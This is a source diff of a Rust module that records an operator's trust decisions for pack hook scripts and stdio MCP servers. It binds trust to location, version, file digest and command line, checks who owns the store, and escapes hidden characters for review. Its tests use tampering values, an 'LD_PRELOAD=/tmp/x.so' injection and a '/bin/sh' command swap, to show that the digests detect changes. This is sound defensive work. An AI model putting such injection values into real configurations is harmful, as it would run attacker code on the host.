@@ -1,36 +1,66 @@
-//! The operator's trust decisions for hooks (spec §13, and DuDuClaw §4.4: hooks land quarantined).
-//!
-//! Installed hooks are never executable and never trusted. `apiary trust <pack-id>` shows each hook
-//! file with its SHA-256 and, once confirmed, records trust for exactly that pack version and that
-//! digest in `<root>/.apiary/trust.json`:
+//! The operator's trust decisions (spec §13, and DuDuClaw §4.4: hooks land quarantined): what a
+//! pack may run on the host, outside the sandbox. Two kinds of things need trust: **script hooks**
+//! (any hook that is not a `.wasm` component) and **stdio MCP servers** (a command line the agent
+//! starts on the host). Both are recorded in the operator's own store, `<root>/.apiary/trust.json`
+//! under the install root (`--root`, `$BUZZ_PACKS_DIR`, else `~/.buzz/packs`):
 //! ```json
-//! { "packs": { "com.example.pack": { "version": "1.2.0", "hooks": [
-//!     { "path": "hooks/setup.sh", "sha256": "…", "kind": "script", "trusted_at": "2026-…Z" } ] } } }
+//! { "packs": { "com.example.pack": { "version": "1.2.0",
+//!       "hooks": [ { "path": "hooks/setup.sh", "sha256": "…", "kind": "script",
+//!                    "commands": ["./hooks/setup.sh --fast"], "trusted_at": "2026-…Z" } ],
+//!       "mcp_servers": [ { "name": "github", "sha256": "…", "command_line": "…", … } ] } },
+//!   "dirs": { "/home/op/src/my-pack": { "pack_id": "com.example.pack", "version": "1.2.0", … } } }
 //! ```
-//! An upgrade (another version) or any change to a hook file (another digest) is untrusted again.
-//! The runtime asks [`is_hook_trusted`] before running a script hook.
+//! `packs` holds trust for the installed copy `<root>/<pack-id>/` (`apiary trust <pack-id>`),
+//! `dirs` for a pack run from anywhere else, by its canonical directory (`apiary trust ./dir`).
+//!
+//! Trust is bound to where the pack is, the pack id and version *from its manifest*, and the exact
+//! content: a hook by its file's SHA-256 and the command lines that run it, an MCP server by the
+//! digest of its definition ([`mcp_digest`]). The location matters because a trusted script may run
+//! other files of its pack: the same script in someone else's directory is not the same code.
+//! Nothing near the pack counts: a `pack.lock` or `.apiary/trust.json` shipped beside a pack is
+//! ignored. The store itself is believed only when the operator alone can change it
+//! ([`check_private`]).
 
 use std::collections::BTreeMap;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 
 use serde::{Deserialize, Serialize};
 
 use super::install::{RootGuard, STATE_DIR, pack_dir_name};
 use super::lock::{HookKind, InstallRecord, Lock};
 use super::{DistError, Result};
+use crate::pack::mcp::Transport;
+use crate::pack::{McpServer, Pack};
 
 pub const TRUST_FILE: &str = "trust.json";
+const MAX_STORE: u64 = 16 * 1024 * 1024;
 
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct TrustStore {
+    /// Installed packs, by pack id.
     #[serde(default)]
     pub packs: BTreeMap<String, PackTrust>,
+    /// Packs run from other directories, by canonical directory.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub dirs: BTreeMap<String, DirTrust>,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct PackTrust {
     pub version: String,
+    #[serde(default)]
     pub hooks: Vec<TrustedHook>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub mcp_servers: Vec<TrustedMcp>,
+}
+
+/// Trust for a pack directory that is not an installed copy.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct DirTrust {
+    /// The manifest id the pack had when trusted.
+    pub pack_id: String,
+    #[serde(flatten)]
+    pub trust: PackTrust,
 }
 
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -38,14 +68,33 @@ pub struct TrustedHook {
     pub path: String,
     pub sha256: String,
     pub kind: HookKind,
+    /// The command lines (file plus arguments) trusted to run it; a record without any (written
+    /// by an older apiary) trusts none, so the operator reviews it again.
+    #[serde(default)]
+    pub commands: Vec<String>,
+    pub trusted_at: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct TrustedMcp {
+    pub name: String,
+    /// [`mcp_digest`] of the definition.
+    pub sha256: String,
+    /// What the operator saw: [`command_line`].
+    pub command_line: String,
     pub trusted_at: String,
 }
 
 impl TrustStore {
+    pub fn path(root: &Path) -> PathBuf {
+        root.join(STATE_DIR).join(TRUST_FILE)
+    }
+
+    /// Reads the store without ownership checks (for listings; the runtime uses [`TrustView`]).
     pub fn load(root: &Path) -> Result<TrustStore> {
-        let path = root.join(STATE_DIR).join(TRUST_FILE);
+        let path = Self::path(root);
         match std::fs::metadata(&path) {
-            Ok(m) if m.len() > 16 * 1024 * 1024 => Err(DistError::new(
+            Ok(m) if m.len() > MAX_STORE => Err(DistError::new(
                 "trust.invalid",
                 format!("{} is too large", path.display()),
             )),
@@ -70,6 +119,10 @@ impl TrustStore {
     }
 
     fn save(&self, guard: &RootGuard) -> Result<()> {
+        check_store_private(&guard.root).map_err(|why| {
+            DistError::new("trust.unsafe-store", why.clone())
+                .help("the trust store decides what runs on this host: make the install root, its .apiary/ and .apiary/trust.json yours and writable only by you (chmod go-w)")
+        })?;
         let path = guard.state.join(TRUST_FILE);
         let mut text = serde_json::to_string_pretty(self)
             .map_err(|e| DistError::new("trust.write", e.to_string()))?;
@@ -77,78 +130,393 @@ impl TrustStore {
         super::write_atomic(&path, &guard.state, text.as_bytes())
             .map_err(|e| DistError::io("cannot write", &path, e))
     }
+}
 
-    pub fn trusts(&self, pack_id: &str, version: &str, hook_path: &str, digest: &str) -> bool {
-        self.packs.get(pack_id).is_some_and(|p| {
-            p.version == version
-                && p.hooks
-                    .iter()
-                    .any(|h| h.path == hook_path && h.sha256.eq_ignore_ascii_case(digest))
-        })
+/// Checks that only the current user can change `path`: it belongs to them and is not writable by
+/// group or others (like ssh's `StrictModes`). `follow`: a link is followed (the install root may
+/// be one), else a link is refused.
+pub fn check_private(path: &Path, follow: bool) -> Result<(), String> {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::MetadataExt;
+        let meta = if follow {
+            std::fs::metadata(path)
+        } else {
+            std::fs::symlink_metadata(path)
+        }
+        .map_err(|e| format!("cannot check {}: {e}", path.display()))?;
+        if meta.file_type().is_symlink() {
+            return Err(format!("{} is a symbolic link", path.display()));
+        }
+        // SAFETY: geteuid has no preconditions and cannot fail.
+        let me = unsafe { libc::geteuid() };
+        if meta.uid() != me {
+            return Err(format!(
+                "{} belongs to uid {}, not to you (uid {me})",
+                path.display(),
+                meta.uid()
+            ));
+        }
+        if meta.mode() & 0o022 != 0 {
+            return Err(format!(
+                "{} is writable by {} (mode {:o})",
+                path.display(),
+                if meta.mode() & 0o002 != 0 {
+                    "everyone"
+                } else {
+                    "its group"
+                },
+                meta.mode() & 0o7777
+            ));
+        }
+    }
+    #[cfg(not(unix))]
+    let _ = (path, follow);
+    Ok(())
+}
+
+/// [`check_private`] for the install root, its `.apiary/` and the store (when they exist).
+fn check_store_private(root: &Path) -> Result<(), String> {
+    check_private(root, true)?;
+    let state = root.join(STATE_DIR);
+    if std::fs::symlink_metadata(&state).is_ok() {
+        check_private(&state, false)?;
+    }
+    let store = state.join(TRUST_FILE);
+    if std::fs::symlink_metadata(&store).is_ok() {
+        check_private(&store, false)?;
+    }
+    Ok(())
+}
+
+/// A pack being run, as trust sees it: the id and version from its manifest, its canonical root.
+#[derive(Debug, Clone)]
+pub struct PackRef {
+    pub id: String,
+    pub version: String,
+    pub root: PathBuf,
+}
+
+impl PackRef {
+    pub fn of(pack: &Pack) -> PackRef {
+        PackRef {
+            id: pack.manifest.id.clone(),
+            version: pack.manifest.version.clone(),
+            root: pack.root.clone(),
+        }
     }
 }
 
-/// Whether the operator trusted the hook file `hook_path` (pack-relative, `/`-separated) with SHA-256
-/// `digest` in version `version` of pack `pack_id` installed under `root`. Any doubt (no store, an
-/// unreadable store, another version or digest) is `false`.
-pub fn is_hook_trusted(
-    root: &Path,
-    pack_id: &str,
-    version: &str,
-    hook_path: &str,
-    digest: &str,
-) -> bool {
-    TrustStore::load(root).is_ok_and(|s| s.trusts(pack_id, version, hook_path, digest))
+/// The operator's trust store as `apiary up` uses it: read once at start, and only after
+/// [`check_private`] passed for the root, its `.apiary/` and the store.
+#[derive(Debug, Clone)]
+pub struct TrustView {
+    root: PathBuf,
+    store: TrustStore,
+    /// Why the store is not used (unsafe ownership or mode, unreadable): nothing is trusted.
+    problem: Option<String>,
 }
 
-/// Whether the hook `command` (as written in `hooks.json` or a persona's `hooks:`, e.g.
-/// `./hooks/setup.sh --fast`) of the pack installed at `pack_dir` (`<root>/<pack-id>`) is trusted
-/// right now: the installed version per `pack.lock`, and the file's current SHA-256, must be what
-/// the operator trusted. The runtime calls this before running a script hook; `false` on any doubt
-/// (not an installed pack, a path leaving the pack, an unreadable file or store).
-pub fn hook_command_trusted(pack_dir: &Path, command: &str) -> bool {
-    let Ok(pack_dir) = pack_dir.canonicalize() else {
-        return false;
-    };
-    let (Some(root), Some(pack_id)) = (
-        pack_dir.parent(),
-        pack_dir.file_name().and_then(|n| n.to_str()),
-    ) else {
-        return false;
-    };
-    let Ok(lock) = Lock::load(root) else {
-        return false;
-    };
-    let Some(entry) = lock.packs.get(pack_id) else {
-        return false;
-    };
+impl TrustView {
+    /// The store of the install root `root`; a missing store trusts nothing.
+    pub fn load(root: &Path) -> TrustView {
+        let root = root.canonicalize().unwrap_or_else(|_| root.to_path_buf());
+        let mut view = TrustView {
+            store: TrustStore::default(),
+            problem: None,
+            root,
+        };
+        if std::fs::symlink_metadata(TrustStore::path(&view.root)).is_err() {
+            return view;
+        }
+        match check_store_private(&view.root)
+            .and_then(|()| TrustStore::load(&view.root).map_err(|e| e.message))
+        {
+            Ok(store) => view.store = store,
+            Err(why) => view.problem = Some(format!("the trust store is not used: {why}")),
+        }
+        view
+    }
+
+    /// Why the store is not used, when it is not.
+    pub fn problem(&self) -> Option<&str> {
+        self.problem.as_deref()
+    }
+
+    /// Whether `pack` is the installed copy `<root>/<pack-id>/` of this store's install root.
+    pub fn is_installed_copy(&self, pack: &PackRef) -> bool {
+        pack_dir_name(&pack.id).is_ok()
+            && self
+                .root
+                .join(&pack.id)
+                .canonicalize()
+                .is_ok_and(|d| d == pack.root)
+    }
+
+    /// The trust recorded for exactly this pack: its location, id and version.
+    fn entry(&self, pack: &PackRef) -> Result<&PackTrust, String> {
+        if let Some(p) = &self.problem {
+            return Err(p.clone());
+        }
+        let entry = if self.is_installed_copy(pack) {
+            self.store.packs.get(&pack.id).ok_or_else(|| {
+                format!(
+                    "nothing of {} {} was trusted by the operator",
+                    pack.id, pack.version
+                )
+            })?
+        } else {
+            self.store
+                .dirs
+                .get(&*pack.root.to_string_lossy())
+                .filter(|d| d.pack_id == pack.id)
+                .map(|d| &d.trust)
+                .ok_or_else(|| {
+                    format!(
+                        "{} is not the installed copy of {} and the operator never trusted this directory",
+                        pack.root.display(),
+                        pack.id
+                    )
+                })?
+        };
+        if entry.version != pack.version {
+            return Err(format!(
+                "trust was recorded for version {}, not {}",
+                entry.version, pack.version
+            ));
+        }
+        Ok(entry)
+    }
+
+    /// Whether the script hook `command` (as written, e.g. `./hooks/setup.sh --fast`) of `pack` may
+    /// run now: its file's current digest and this command line were trusted. `Err` says why not.
+    pub fn hook(&self, pack: &PackRef, command: &str) -> Result<(), String> {
+        let entry = self.entry(pack)?;
+        let (rel, abs) = hook_file(&pack.root, command)?;
+        let digest =
+            super::sha256_file(&abs).map_err(|e| format!("cannot read {}: {e}", abs.display()))?;
+        match entry.hooks.iter().find(|h| h.path == rel) {
+            None => Err(format!("{rel} was never trusted")),
+            Some(h) if !h.sha256.eq_ignore_ascii_case(&digest) => {
+                Err(format!("{rel} changed since it was trusted"))
+            }
+            Some(h) if !h.commands.iter().any(|c| c == command) => {
+                Err(format!("the command line `{command}` was never trusted"))
+            }
+            Some(_) => Ok(()),
+        }
+    }
+
+    /// Whether the agent may be handed `server` of `pack`: an HTTP server runs nothing here; a
+    /// stdio server's definition must have been trusted. `Err` says why not.
+    pub fn mcp_server(&self, pack: &PackRef, server: &McpServer) -> Result<(), String> {
+        let Some(digest) = mcp_digest(server) else {
+            return Ok(());
+        };
+        let entry = self.entry(pack)?;
+        if entry.mcp_servers.iter().any(|m| m.sha256 == digest) {
+            Ok(())
+        } else if entry.mcp_servers.iter().any(|m| m.name == server.name) {
+            Err(format!(
+                "MCP server `{}` changed since it was trusted",
+                server.name
+            ))
+        } else {
+            Err(format!("MCP server `{}` was never trusted", server.name))
+        }
+    }
+
+    /// The command that reviews and records trust for `pack` in this store.
+    pub fn remedy(&self, pack: &PackRef) -> String {
+        let target = if self.is_installed_copy(pack) {
+            pack.id.clone()
+        } else {
+            quote(&pack.root.to_string_lossy())
+        };
+        let default = super::resolve_root(None)
+            .ok()
+            .and_then(|d| d.canonicalize().ok().or(Some(d)));
+        if default.as_deref() == Some(self.root.as_path()) {
+            format!("apiary trust {target}")
+        } else {
+            format!(
+                "apiary trust {target} --root {}",
+                quote(&self.root.to_string_lossy())
+            )
+        }
+    }
+}
+
+/// The pack-relative (`/`-separated) and absolute path of the file a hook command runs.
+fn hook_file(pack_root: &Path, command: &str) -> Result<(String, PathBuf), String> {
     let token = command.split_whitespace().next().unwrap_or(command);
-    let Ok(abs) = crate::pack::paths::resolve_inside(&pack_dir, token) else {
-        return false;
-    };
-    let rel = crate::pack::paths::relative_to(&pack_dir, &abs)
+    let abs = crate::pack::paths::resolve_inside(pack_root, token)
+        .map_err(|e| format!("hook `{command}`: {e}"))?;
+    let rel = crate::pack::paths::relative_to(pack_root, &abs)
         .components()
         .map(|c| c.as_os_str().to_string_lossy().into_owned())
         .collect::<Vec<_>>()
         .join("/");
-    let Ok(digest) = super::sha256_file(&abs) else {
-        return false;
-    };
-    is_hook_trusted(root, pack_id, &entry.version, &rel, &digest)
+    Ok((rel, abs))
 }
 
-/// One hook of an installed pack with its trust state.
+/// The SHA-256 of a stdio MCP server's definition as canonical JSON (fixed key order, env sorted:
+/// `{"type":"stdio","name","command","args","env"}` with the values as written, before `${VAR}`
+/// interpolation); `None` for an HTTP server.
+pub fn mcp_digest(server: &McpServer) -> Option<String> {
+    #[derive(Serialize)]
+    struct Canonical<'a> {
+        r#type: &'static str,
+        name: &'a str,
+        command: &'a str,
+        args: &'a [String],
+        env: &'a BTreeMap<String, String>,
+    }
+    let Transport::Stdio { command, args, env } = &server.transport else {
+        return None;
+    };
+    let json = serde_json::to_vec(&Canonical {
+        r#type: "stdio",
+        name: &server.name,
+        command,
+        args,
+        env,
+    })
+    .ok()?;
+    Some(super::sha256_hex(&json))
+}
+
+/// A stdio server's exact command line for people, shell style: `KEY=value … command args…`, each
+/// word quoted when needed and anything but printable ASCII escaped, so that control characters or
+/// bidi overrides cannot hide part of it from the reviewer. `None` for an HTTP server.
+pub fn command_line(server: &McpServer) -> Option<String> {
+    let Transport::Stdio { command, args, env } = &server.transport else {
+        return None;
+    };
+    let words: Vec<String> = env
+        .iter()
+        .map(|(k, v)| format!("{}={}", quote(k), quote(v)))
+        .chain(std::iter::once(quote(command)))
+        .chain(args.iter().map(|a| quote(a)))
+        .collect();
+    Some(words.join(" "))
+}
+
+/// One word quoted for a POSIX shell, with anything but printable ASCII escaped (`$'…'`).
+pub fn quote(word: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:=@%+,-${}".contains(c);
+    if !word.is_empty() && word.chars().all(plain) {
+        return word.to_string();
+    }
+    if word.chars().all(|c| c.is_ascii_graphic() || c == ' ') {
+        return format!("'{}'", word.replace('\'', r"'\''"));
+    }
+    let mut out = String::from("$'");
+    for c in word.chars() {
+        match c {
+            '\'' => out.push_str(r"\'"),
+            '\\' => out.push_str(r"\\"),
+            c if c.is_ascii_graphic() || c == ' ' => out.push(c),
+            c => out.extend(c.escape_default()),
+        }
+    }
+    out.push('\'');
+    out
+}
+
+/// A stdio MCP server of a pack, for review.
+#[derive(Debug, Clone, Serialize)]
+pub struct McpStatus {
+    pub name: String,
+    pub command: String,
+    pub args: Vec<String>,
+    pub env: BTreeMap<String, String>,
+    /// [`command_line`]: what the operator reviews.
+    pub command_line: String,
+    /// [`mcp_digest`]: what trust is recorded for.
+    pub sha256: String,
+    /// `pack` (`.mcp.json`) or `persona <name>`.
+    pub used_by: Vec<String>,
+    /// `${VAR}`s it reads from the operator's environment (each needs the pack's `allow_env`).
+    pub env_refs: Vec<String>,
+    pub trusted: bool,
+}
+
+/// Every stdio MCP server the pack defines (pack-level and per persona), one entry per definition.
+pub fn mcp_servers(pack: &Pack) -> Vec<McpStatus> {
+    let mut out: Vec<McpStatus> = Vec::new();
+    let all = pack
+        .mcp_servers
+        .iter()
+        .map(|s| ("pack".to_string(), s))
+        .chain(pack.personas.iter().flat_map(|p| {
+            p.mcp_servers
+                .iter()
+                .map(move |s| (format!("persona {}", p.name), s))
+        }));
+    for (who, s) in all {
+        let (Some(sha256), Some(line), Transport::Stdio { command, args, env }) =
+            (mcp_digest(s), command_line(s), &s.transport)
+        else {
+            continue;
+        };
+        if let Some(seen) = out.iter_mut().find(|m| m.sha256 == sha256) {
+            seen.used_by.push(who);
+            continue;
+        }
+        out.push(McpStatus {
+            name: s.name.clone(),
+            command: command.clone(),
+            args: args.clone(),
+            env: env.clone(),
+            command_line: line,
+            sha256,
+            used_by: vec![who],
+            env_refs: s.env_refs.clone(),
+            trusted: false,
+        });
+    }
+    out
+}
+
+/// What `apiary trust` records trust for.
+#[derive(Debug, Clone)]
+pub enum Target {
+    /// The installed copy `<root>/<pack-id>/`.
+    Installed(String),
+    /// Any other pack directory (canonical), with the id its manifest declares.
+    Dir { dir: PathBuf, pack_id: String },
+}
+
+impl Target {
+    pub fn pack_id(&self) -> &str {
+        match self {
+            Target::Installed(id) | Target::Dir { pack_id: id, .. } => id,
+        }
+    }
+}
+
+/// One hook of a pack with its trust state.
 #[derive(Debug, Clone, Serialize)]
 pub struct HookStatus {
     pub path: String,
     pub kind: HookKind,
-    /// The digest recorded at install time.
+    /// The digest recorded at install time (a pack directory: the file's digest now).
     pub sha256: String,
     pub used_by: Vec<String>,
     pub commands: Vec<String>,
     /// The file on disk still has the recorded digest.
     pub intact: bool,
     pub trusted: bool,
+}
+
+/// Whether `entry` trusts hook `h`: its path, digest and every command line that runs it.
+fn hook_trusted_by(entry: &PackTrust, h: &HookStatus) -> bool {
+    entry.hooks.iter().any(|t| {
+        t.path == h.path
+            && t.sha256.eq_ignore_ascii_case(&h.sha256)
+            && h.commands.iter().all(|c| t.commands.contains(c))
+    })
 }
 
 /// The installed version of `pack_id` and the state of each of its hooks.
@@ -160,7 +528,7 @@ pub fn status(root: &Path, pack_id: &str) -> Result<(String, Vec<HookStatus>)> {
             "pack.not-installed",
             format!("{pack_id} is not installed in {}", root.display()),
         )
-        .help("`apiary list` shows the installed packs")
+        .help("`apiary list` shows the installed packs; a pack directory is trusted as a path: `apiary trust ./my-pack`")
     })?;
     let dir = root.join(pack_id);
     let record = InstallRecord::load(&dir)?.ok_or_else(|| {
@@ -173,6 +541,10 @@ pub fn status(root: &Path, pack_id: &str) -> Result<(String, Vec<HookStatus>)> {
         )
     })?;
     let store = TrustStore::load(root)?;
+    let trusted = store
+        .packs
+        .get(pack_id)
+        .filter(|p| p.version == entry.version);
     let hooks = record
         .hooks
         .iter()
@@ -181,144 +553,456 @@ pub fn status(root: &Path, pack_id: &str) -> Result<(String, Vec<HookStatus>)> {
             let on_disk = safe
                 .then(|| super::sha256_file(&dir.join(&h.path)).ok())
                 .flatten();
-            HookStatus {
+            let mut status = HookStatus {
                 path: h.path.clone(),
                 kind: h.kind,
                 sha256: h.sha256.clone(),
                 used_by: h.used_by.clone(),
                 commands: h.commands.clone(),
                 intact: on_disk.as_deref() == Some(h.sha256.as_str()),
-                trusted: store.trusts(pack_id, &entry.version, &h.path, &h.sha256),
-            }
+                trusted: false,
+            };
+            status.trusted = trusted.is_some_and(|t| hook_trusted_by(t, &status));
+            status
         })
         .collect();
     Ok((entry.version.clone(), hooks))
 }
 
-/// Records trust for `hooks` (as returned by [`status`]) of `pack_id` at `version`. Refuses when a
-/// hook file no longer matches its recorded digest.
-pub fn trust(guard: &RootGuard, pack_id: &str, version: &str, hooks: &[HookStatus]) -> Result<()> {
-    if let Some(h) = hooks.iter().find(|h| !h.intact) {
-        return Err(DistError::new(
-            "trust.drift",
-            format!(
-                "{} in {pack_id} no longer matches the digest recorded at install; refusing to trust it",
-                h.path
-            ),
+/// A pack as `apiary trust` reviews it: what would run on the host, each with its trust state.
+#[derive(Debug, Clone, Serialize)]
+pub struct Review {
+    pub pack_id: String,
+    pub version: String,
+    pub dir: PathBuf,
+    pub hooks: Vec<HookStatus>,
+    pub mcp_servers: Vec<McpStatus>,
+}
+
+fn load_pack(dir: &Path) -> Result<Pack> {
+    let loaded = crate::pack::load(dir);
+    loaded.pack.ok_or_else(|| {
+        DistError::new(
+            "pack.invalid",
+            format!("{} is not a valid pack; nothing to trust", dir.display()),
         )
-        .help("run `apiary verify` and reinstall the pack"));
+        .with_report(loaded.report)
+    })
+}
+
+/// Everything of the pack at `target` that needs trust, with its state in the store of `root`.
+pub fn review(root: &Path, target: &Target) -> Result<Review> {
+    let store = TrustStore::load(root)?;
+    let (pack, version, mut hooks, recorded) = match target {
+        Target::Installed(id) => {
+            let (version, hooks) = status(root, id)?;
+            // A pack changed after install may no longer load: say which hook drifted first.
+            let pack = load_pack(&root.join(id)).map_err(|e| match drifted(id, &hooks) {
+                Some(drift) => drift,
+                None => e.help("run `apiary verify` and reinstall the pack"),
+            })?;
+            let recorded = store.packs.get(id).filter(|p| p.version == version);
+            (pack, version, hooks, recorded)
+        }
+        Target::Dir { dir, pack_id } => {
+            let pack = load_pack(dir)?;
+            if &pack.manifest.id != pack_id {
+                return Err(DistError::new(
+                    "trust.changed",
+                    format!("{} changed while it was reviewed", dir.display()),
+                ));
+            }
+            let version = pack.manifest.version.clone();
+            let hooks = dir_hooks(&pack);
+            let recorded = store
+                .dirs
+                .get(&*dir.to_string_lossy())
+                .filter(|d| &d.pack_id == pack_id && d.trust.version == version)
+                .map(|d| &d.trust);
+            (pack, version, hooks, recorded)
+        }
+    };
+    for h in &mut hooks {
+        h.trusted = recorded.is_some_and(|t| hook_trusted_by(t, h));
+    }
+    let mut mcp = mcp_servers(&pack);
+    for m in &mut mcp {
+        m.trusted = recorded.is_some_and(|t| t.mcp_servers.iter().any(|r| r.sha256 == m.sha256));
+    }
+    Ok(Review {
+        pack_id: pack.manifest.id.clone(),
+        version,
+        dir: pack.root.clone(),
+        hooks,
+        mcp_servers: mcp,
+    })
+}
+
+/// The hooks of a pack directory with their files' digests now.
+fn dir_hooks(pack: &Pack) -> Vec<HookStatus> {
+    super::install::hook_records(pack, &[])
+        .into_iter()
+        .map(|h| {
+            let digest = crate::pack::paths::resolve_inside(&pack.root, &h.path)
+                .ok()
+                .and_then(|p| super::sha256_file(&p).ok());
+            HookStatus {
+                path: h.path,
+                kind: h.kind,
+                intact: digest.is_some(),
+                sha256: digest.unwrap_or_default(),
+                used_by: h.used_by,
+                commands: h.commands,
+                trusted: false,
+            }
+        })
+        .collect()
+}
+
+/// The refusal to trust a hook whose file no longer matches its recorded digest, if one does not.
+fn drifted(pack_id: &str, hooks: &[HookStatus]) -> Option<DistError> {
+    let h = hooks.iter().find(|h| !h.intact)?;
+    Some(DistError::new(
+        "trust.drift",
+        format!(
+            "{} in {pack_id} no longer matches the digest recorded at install (or cannot be read); refusing to trust it",
+            h.path
+        ),
+    )
+    .help("run `apiary verify` and reinstall the pack"))
+}
+
+/// Records trust for what `review` lists of `target`: its hooks when `hooks`, its stdio MCP servers
+/// when `mcp`; the other kind keeps what was recorded for the same version. Refuses when a hook file
+/// no longer matches its recorded digest.
+pub fn record(
+    guard: &RootGuard,
+    target: &Target,
+    review: &Review,
+    hooks: bool,
+    mcp: bool,
+) -> Result<()> {
+    if hooks && let Some(drift) = drifted(&review.pack_id, &review.hooks) {
+        return Err(drift);
     }
     let mut store = TrustStore::load(&guard.root)?;
     let now = super::now_rfc3339();
-    store.packs.insert(
-        pack_id.to_string(),
-        PackTrust {
-            version: version.to_string(),
-            hooks: hooks
-                .iter()
-                .map(|h| TrustedHook {
-                    path: h.path.clone(),
-                    sha256: h.sha256.clone(),
-                    kind: h.kind,
-                    trusted_at: now.clone(),
-                })
-                .collect(),
-        },
-    );
+    let slot = match target {
+        Target::Installed(id) => store.packs.entry(id.clone()).or_default(),
+        Target::Dir { dir, pack_id } => {
+            let fresh = || DirTrust {
+                pack_id: pack_id.clone(),
+                trust: PackTrust::default(),
+            };
+            let d = store
+                .dirs
+                .entry(dir.to_string_lossy().into_owned())
+                .or_insert_with(fresh);
+            // Another pack now lives in that directory: nothing of the old one carries over.
+            if &d.pack_id != pack_id {
+                *d = fresh();
+            }
+            &mut d.trust
+        }
+    };
+    if slot.version != review.version {
+        *slot = PackTrust {
+            version: review.version.clone(),
+            ..Default::default()
+        };
+    }
+    if hooks {
+        slot.hooks = review
+            .hooks
+            .iter()
+            .map(|h| TrustedHook {
+                path: h.path.clone(),
+                sha256: h.sha256.clone(),
+                kind: h.kind,
+                commands: h.commands.clone(),
+                trusted_at: now.clone(),
+            })
+            .collect();
+    }
+    if mcp {
+        slot.mcp_servers = review
+            .mcp_servers
+            .iter()
+            .map(|m| TrustedMcp {
+                name: m.name.clone(),
+                sha256: m.sha256.clone(),
+                command_line: m.command_line.clone(),
+                trusted_at: now.clone(),
+            })
+            .collect();
+    }
     store.save(guard)
 }
 
-/// Drops every trust decision for `pack_id`; `true` when there was one.
-pub fn forget(guard: &RootGuard, pack_id: &str) -> Result<bool> {
+/// Drops every trust decision for `target`; `true` when there was one.
+pub fn forget_target(guard: &RootGuard, target: &Target) -> Result<bool> {
     let mut store = TrustStore::load(&guard.root)?;
-    if store.packs.remove(pack_id).is_some() {
+    let had = match target {
+        Target::Installed(id) => store.packs.remove(id).is_some(),
+        Target::Dir { dir, .. } => store.dirs.remove(&*dir.to_string_lossy()).is_some(),
+    };
+    if had {
         store.save(guard)?;
-        Ok(true)
-    } else {
-        Ok(false)
     }
+    Ok(had)
+}
+
+/// Drops every trust decision for the installed pack `pack_id`; `true` when there was one.
+pub fn forget(guard: &RootGuard, pack_id: &str) -> Result<bool> {
+    forget_target(guard, &Target::Installed(pack_id.to_string()))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::pack::mcp::Transport;
 
-    fn hook_template() -> HookStatus {
-        HookStatus {
-            path: "hooks/a.sh".into(),
-            kind: HookKind::Script,
-            sha256: "ab".repeat(32),
-            used_by: vec!["pack:on_start".into()],
-            commands: vec!["./hooks/a.sh".into()],
-            intact: true,
-            trusted: false,
+    fn stdio(name: &str, command: &str, args: &[&str]) -> McpServer {
+        McpServer {
+            name: name.into(),
+            transport: Transport::Stdio {
+                command: command.into(),
+                args: args.iter().map(|a| a.to_string()).collect(),
+                env: BTreeMap::from([("K".into(), "${V}".into())]),
+            },
+            env_refs: vec!["V".into()],
         }
     }
 
+    fn write_pack(dir: &Path, id: &str, version: &str, hook: &str) {
+        let files = [
+            (
+                ".plugin/plugin.json".to_string(),
+                format!(
+                    r#"{{"id": "{id}", "name": "P", "version": "{version}", "personas": ["agents/bee.persona.md"]}}"#
+                ),
+            ),
+            (
+                "agents/bee.persona.md".into(),
+                "---\nname: bee\ndisplay_name: Bee\ndescription: d\nhooks:\n  on_start: ./hooks/a.sh --x\nmcp_servers:\n  - name: tool\n    command: tool-mcp\n    args: [\"--stdio\"]\n---\nBee.\n".into(),
+            ),
+            ("hooks/a.sh".into(), hook.to_string()),
+        ];
+        for (rel, text) in files {
+            let p = dir.join(rel);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, text).unwrap();
+        }
+    }
+
+    fn pack_ref(dir: &Path) -> PackRef {
+        PackRef::of(&crate::pack::load(dir).pack.expect("valid pack"))
+    }
+
     #[test]
-    fn trust_is_for_one_version_and_digest() {
-        let dir = tempfile::tempdir().unwrap();
-        let root = dir.path();
-        assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", "aa"));
-        let guard = RootGuard::acquire(root, true).unwrap().unwrap();
-        let hook = hook_template();
-        trust(&guard, "p", "1.0.0", std::slice::from_ref(&hook)).unwrap();
-        let d = "ab".repeat(32);
-        assert!(is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", &d));
-        assert!(is_hook_trusted(
-            root,
-            "p",
-            "1.0.0",
-            "hooks/a.sh",
-            &d.to_uppercase()
-        ));
-        assert!(!is_hook_trusted(root, "p", "1.0.1", "hooks/a.sh", &d));
-        assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/b.sh", &d));
-        assert!(!is_hook_trusted(
-            root,
-            "p",
-            "1.0.0",
-            "hooks/a.sh",
-            &"cd".repeat(32)
-        ));
-        assert!(!is_hook_trusted(root, "q", "1.0.0", "hooks/a.sh", &d));
-        let drifted = HookStatus {
-            intact: false,
-            ..hook
+    fn mcp_digest_covers_the_definition_and_nothing_else() {
+        let a = stdio("gh", "gh-mcp", &["stdio"]);
+        let d = mcp_digest(&a).unwrap();
+        assert_eq!(d, mcp_digest(&a.clone()).unwrap());
+        for other in [
+            stdio("gh2", "gh-mcp", &["stdio"]),
+            stdio("gh", "/bin/sh", &["stdio"]),
+            stdio("gh", "gh-mcp", &["stdio", "-x"]),
+        ] {
+            assert_ne!(d, mcp_digest(&other).unwrap());
+        }
+        let mut env = a.clone();
+        if let Transport::Stdio { env, .. } = &mut env.transport {
+            env.insert("LD_PRELOAD".into(), "/tmp/x.so".into());
+        }
+        assert_ne!(d, mcp_digest(&env).unwrap());
+        let http = McpServer {
+            name: "h".into(),
+            transport: Transport::Http {
+                url: "https://x".into(),
+                headers: BTreeMap::new(),
